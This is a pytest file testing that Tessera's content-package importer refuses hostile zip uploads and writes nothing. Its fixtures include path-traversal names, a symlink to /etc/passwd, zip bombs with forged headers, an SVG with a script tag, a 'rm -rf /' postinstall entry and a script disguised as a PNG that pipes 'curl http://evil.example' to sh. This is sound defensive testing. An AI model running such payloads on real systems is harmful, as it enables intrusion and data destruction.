"""Broken and hostile packages: each is refused with a message that says why, and nothing
at all is written (rows, audit events or files)."""

from __future__ import annotations

import io
import json
import struct
import zipfile

import pytest

from tessera.programs import actions
from tessera.programs.packages import PackageRejected, do_import_package, export_programme
from tessera.programs.packages import importer as importer_module
from tests.programs import fixtures_packages
from tests.programs.fixtures_packages import (
    build_programme,
    counts,
    image_files,
    image_manifest,
    media_entry,
    minimal_manifest,
    package,
    raw_zip,
    tiny_png,
)

# Fixtures, used by name.
regions = fixtures_packages.regions
media_root = fixtures_packages.media_root


@pytest.fixture
def refuse(regions, media_root):
    """Import into the first region and expect a refusal; give its problems after checking
    that nothing was written."""

    def attempt(data: bytes) -> list[str]:
        before = counts(media_root)
        with pytest.raises(PackageRejected) as caught:
            do_import_package(data, region=regions.region, acting_user=regions.author)
        assert counts(media_root) == before
        return caught.value.problems

    return attempt


def with_entry(name: str | zipfile.ZipInfo, data: bytes = b"x") -> bytes:
    """A valid package plus one more zip entry."""
    text = json.dumps(minimal_manifest()).encode()
    return raw_zip([("manifest.json", text), (name, data)])


@pytest.mark.parametrize(
    "name, expected",
    [
        ("../evil", "File \"../evil\": the path leads outside the package ('..')."),
        ("modules/../../evil.md", "the path leads outside the package ('..')."),
        ("/etc/passwd", 'File "/etc/passwd": the path is absolute.'),
        ("C:/Windows/evil.dll", "the path is absolute."),
        ("modules\\..\\evil.md", "the name contains a backslash."),
        ("modules/./x.md", "the path has an empty or '.' part."),
        ("media/a\x01.png", "the name contains control characters."),
    ],
)
def test_paths_outside_the_package_are_refused(refuse, name, expected):
    problems = refuse(with_entry(name))

    assert len(problems) == 1 and problems[0].endswith(expected)


def test_a_symbolic_link_is_refused(refuse):
    link = zipfile.ZipInfo("media/dot.png")
    link.create_system = 3
    link.external_attr = 0o120777 << 16

    assert refuse(with_entry(link, b"/etc/passwd")) == [
        'File "media/dot.png": is a symbolic link; a package holds only plain files.'
    ]


def test_a_device_or_other_special_file_is_refused(refuse):
    fifo = zipfile.ZipInfo("media/pipe.png")
    fifo.external_attr = 0o010644 << 16

    assert refuse(with_entry(fifo)) == ['File "media/pipe.png": is not a plain file.']


def test_duplicate_names_are_refused(refuse):
    text = json.dumps(minimal_manifest()).encode()

    with pytest.warns(UserWarning, match="Duplicate name"):
        data = raw_zip([("manifest.json", text), ("manifest.json", b"{}")])

    assert refuse(data) == ['File "manifest.json": appears more than once.']


def test_too_many_files_are_refused(refuse):
    text = json.dumps(minimal_manifest()).encode()
    data = raw_zip([("manifest.json", text)] + [(f"modules/f{i}.md", b"") for i in range(2000)])

    assert refuse(data) == ["The package holds 2001 files; at most 2000 are allowed."]


# --- zip bombs ---------------------------------------------------------------------------

ZEROS_MB = 300


@pytest.fixture(scope="module")
def zeros_package() -> tuple[bytes, int]:
    """A valid manifest and media/zeros.png: 300 MB of zeros, about 300 KB packed. Written
    in a stream, so the 300 MB are never in memory at once."""
    manifest = minimal_manifest()
    manifest["modules"][0]["steps"].append(
        {"kind": "image", "title": "Zeros", "media": "media/zeros.png", "media_alt": "None"}
    )
    manifest["media"] = [
        {"path": "media/zeros.png", "sha256": "0" * 64, "content_type": "image/png", "size": 1}
    ]
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        archive.writestr("manifest.json", json.dumps(manifest))
        with archive.open("media/zeros.png", "w") as stream:
            megabyte = bytes(1024 * 1024)
            for _ in range(ZEROS_MB):
                stream.write(megabyte)
    data = buffer.getvalue()
    assert len(data) < 1024 * 1024
    return data, ZEROS_MB * 1024 * 1024


def test_a_file_whose_header_says_it_is_huge_is_refused_before_reading(refuse, zeros_package):
    data, _size = zeros_package

    assert refuse(data) == [
        'File "media/zeros.png": is 300.0\xa0MB unpacked; the largest file accepted is 100.0\xa0MB.'
    ]


def test_a_zip_bomb_is_caught_while_reading_whatever_the_limits(refuse, settings, zeros_package):
    settings.TESSERA_PACKAGE_MAX_BYTES = settings.TESSERA_PACKAGE_MAX_FILE_BYTES = 2**31
    data, _size = zeros_package

    assert refuse(data) == [
        'File "media/zeros.png" unpacks to more than 100 times its packed size; it looks '
        "like a zip bomb."
    ]


def test_a_bomb_whose_headers_claim_a_small_size_is_refused(refuse, zeros_package):
    data = bytearray(zeros_package[0])
    # Claim 1 KB in the central directory and the local header: header sizes are not
    # trusted, and unpacking stops at what was claimed, where the checksum fails.
    central = data.rfind(b"PK\x01\x02")
    data[central + 24 : central + 28] = struct.pack("<L", 1024)
    local = data.find(b"PK\x03\x04", 1)
    data[local + 22 : local + 26] = struct.pack("<L", 1024)

    problems = refuse(bytes(data))

    assert problems == ['File "media/zeros.png" is damaged and cannot be read.']


def test_the_total_unpacked_size_is_counted_across_files(refuse, settings):
    settings.TESSERA_PACKAGE_MAX_BYTES = 4000
    png = tiny_png()
    manifest = image_manifest(png)
    manifest["programme"]["evidence"] = "e" * 2500
    files = image_files(png) | {"modules/hello/why.md": b"w" * 2000}

    (problem,) = refuse(package(manifest, files))

    assert problem.startswith("The package unpacks to ")
    assert problem.endswith("the largest accepted is 3.9\xa0KB.")


# --- manifests ---------------------------------------------------------------------------


def test_a_package_without_a_manifest_is_refused(refuse):
    assert refuse(raw_zip([("readme.md", b"hello")])) == [
        "The package has no manifest.json at its top level."
    ]


def test_a_wrong_format_version_is_refused(refuse):
    manifest = minimal_manifest()
    manifest["format_version"] = 2

    assert refuse(package(manifest)) == [
        "format_version: this package is in format version 2; this Tessera reads version 1 only."
    ]


def test_a_manifest_of_another_kind_is_refused(refuse):
    assert refuse(package({"name": "my-app", "scripts": {"postinstall": "rm -rf /"}})) == [
        'format: this is not a Tessera content package (expected "tessera-content-package").'
    ]


def test_bad_json_is_refused(refuse):
    assert refuse(package(b'{"format": "tessera-content-package",}')) == [
        "manifest.json is not valid JSON: Expecting property name enclosed in double quotes "
        "at line 1, column 38."
    ]


def test_a_media_hash_mismatch_is_refused(refuse):
    png = tiny_png()
    files = image_files(png) | {"media/dot.png": tiny_png((1, 2, 3))}
    manifest = image_manifest(png)
    manifest["media"][0]["size"] = len(files["media/dot.png"])

    assert refuse(package(manifest, files)) == [
        'media[0].sha256: does not match the contents of "media/dot.png"; the file is damaged '
        "or was changed after the manifest was written."
    ]


def test_a_script_disguised_as_an_image_is_refused(refuse):
    script = b"#!/bin/sh\ncurl http://evil.example | sh\n"
    manifest = image_manifest(tiny_png())
    manifest["media"] = [media_entry("media/dot.png", script, "image/png")]
    files = image_files(tiny_png()) | {"media/dot.png": script}

    assert refuse(package(manifest, files)) == [
        'media[0]: "media/dot.png" is not a PNG, JPEG, WebP, MP3, Ogg, MP4 or WebM file, '
        "whatever its name says."
    ]


def test_an_svg_is_refused_even_when_declared_honestly(refuse):
    svg = b"<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>"
    manifest = image_manifest(tiny_png())
    manifest["media"] = [media_entry("media/dot.svg", svg, "image/svg+xml")]
    manifest["modules"][0]["steps"][2]["media"] = "media/dot.svg"

    problems = refuse(package(manifest, {"modules/hello/why.md": b"x", "media/dot.svg": svg}))

    assert problems[0].startswith("media[0].content_type: must be one of: image/png, ")


def test_a_step_referring_to_missing_media_is_refused(refuse):
    manifest = image_manifest(tiny_png())
    manifest["modules"][0]["steps"][2]["media"] = "media/elsewhere.png"

    problems = refuse(package(manifest, image_files(tiny_png())))

    assert problems == [
        'modules[0].steps[2].media: "media/elsewhere.png" is not listed in the package\'s media.',
        "media: media/dot.png is not used by any step.",
    ]


def test_a_listed_media_file_missing_from_the_zip_is_refused(refuse):
    png = tiny_png()

    assert refuse(package(image_manifest(png), {"modules/hello/why.md": b"x"})) == [
        'media[0].path: "media/dot.png" is not in the package.'
    ]


def test_a_body_file_outside_the_package_is_refused(refuse):
    manifest = minimal_manifest()
    manifest["modules"][0]["steps"][0] = {
        "kind": "text",
        "title": "Secrets",
        "body_file": "../../../etc/passwd.md",
    }

    assert refuse(package(manifest)) == [
        "modules[0].steps[0].body_file: the path leads outside the package ('..')."
    ]


def test_a_non_zip_upload_is_refused(refuse):
    assert refuse(b"\x7fELF\x02\x01\x01" + bytes(100)) == [
        "This is not a zip file, or it is damaged."
    ]


# --- conflicts with the region's regions ---------------------------------------------------


def test_a_changed_module_under_an_existing_number_is_refused_and_nothing_else_is_added(
    regions, refuse
):
    build_programme(regions.region, regions.author)
    manifest = minimal_manifest(key="other-programme", module="cbt-basics-intro")
    manifest["programme"]["modules"] = ["cbt-basics-intro", "brand-new"]
    brand_new = dict(manifest["modules"][0], key="brand-new")
    manifest["modules"].append(brand_new)

    assert refuse(package(manifest)) == [
        "modules[0]: module cbt-basics-intro version 1 is already published in this region "
        "with different content. A changed version needs a new number."
    ]


def test_a_changed_programme_under_an_existing_number_is_refused(regions, refuse):
    data = export_programme(build_programme(regions.region, regions.author))
    archive = zipfile.ZipFile(io.BytesIO(data))
    files = {name: archive.read(name) for name in archive.namelist()}
    manifest = json.loads(files.pop("manifest.json"))
    manifest["programme"]["weeks"] = 12

    assert refuse(package(manifest, files)) == [
        "programme: programme cbt-basics version 1 is already published in this region with "
        "different content. A changed version needs a new number."
    ]


def test_a_draft_in_the_way_is_refused(regions, refuse):
    actions.do_create_module(regions.region, acting_user=regions.author, key="hello", title="H")

    assert refuse(package(minimal_manifest())) == [
        "modules[0]: this region has a draft of module hello numbered 1 or lower. Publish or "
        "discard the draft first, or give the package's version a higher number."
    ]


def test_a_failure_while_writing_leaves_no_rows_and_no_files(regions, refuse, monkeypatch):
    def broken(*args, **kwargs):
        raise PackageRejected(["the disk is full"])

    monkeypatch.setattr(importer_module, "_create_programme", broken)
    png = tiny_png()

    assert refuse(package(image_manifest(png), image_files(png))) == ["the disk is full"]


def test_a_long_list_of_problems_is_shortened(refuse):
    manifest = minimal_manifest()
    manifest["modules"][0]["steps"] = [{"kind": "text", "title": ""}] * 150

    problems = refuse(package(manifest))

    assert len(problems) == 101
    assert problems[-1] == "… and 200 more problems."
